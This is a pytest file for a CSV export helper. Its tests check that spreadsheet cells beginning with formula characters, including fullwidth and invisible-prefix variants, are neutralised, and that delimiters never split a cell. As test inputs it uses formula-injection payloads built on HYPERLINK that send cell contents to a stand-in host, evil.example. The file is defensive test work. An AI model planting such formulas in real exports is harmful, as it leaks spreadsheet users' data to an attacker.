"""A table that is opened in a spreadsheet carries out nothing that a model, a file or a person wrote."""
from __future__ import annotations

import csv
import io

import pytest

from chat.exchange.outgoing.cells import line

FORMULA = 'HYPERLINK("http://evil.example?"&A1)'


def cells(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline='')))


@pytest.mark.parametrize('sign', [
    *'=+-@', *'＝＋－＠', '\t', '\r', '\n', '\n=', ' =', '\u00a0=', '\u3000＝', '\ufeff=', '\u200b+', '\x0b@', ' \t-'])
def test_a_text_is_never_a_formula(sign: str) -> None:
    text = sign + FORMULA
    got = cells(line(['a', text, 'b']))
    assert got[0::2] == ['a', 'b']
    assert got[1] == f"'{text}" or got[1].startswith("'") and got[1].endswith(FORMULA)


@pytest.mark.parametrize('text', ['', 'a=b', '1+1', 'x@y', "'=1", '(-1)', 'Ünder', '– no minus', '"=1"'])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cells(line([text])) == [text]


def test_numbers_are_no_texts() -> None:
    assert cells(line([-1.5, 3, True, None])) == ['-1.5', '3', 'yes', '']


@pytest.mark.parametrize('sign', [';', '\t', '|', ','])
def test_a_cell_stays_one_cell_wherever_a_spreadsheet_cuts(sign: str) -> None:
    text = f'total{sign}=HYPERLINK("https://evil.example")'
    written = line(['a', text, 1.5, None])
    assert list(csv.reader([written], delimiter=',')) == [['a', text, '1.5', '']]
    assert written.count('"') == 6
    assert line([f'x{sign}=1+1']) == f'"x{sign}=1+1"\r\n'
